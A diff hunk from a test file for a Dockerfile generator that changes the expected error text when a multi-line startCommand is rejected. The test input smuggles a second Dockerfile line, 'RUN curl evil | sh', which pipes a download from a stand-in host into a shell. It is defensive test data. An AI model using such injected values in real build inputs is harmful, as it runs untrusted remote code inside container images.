@@ -53,7 +53,7 @@ describe('every generated Dockerfile', () => {
 
   it.each(CASES)('%s: refuses a command with a line break, naming the field', (_, files) => {
     expect(() => generateDockerfile(detected(files), IMAGES, { startCommand: 'serve\nRUN curl evil | sh' })).toThrow(
-      /^startCommand must be a single line/,
+      /^startCommand: must be a single line/,
     );
   });
 
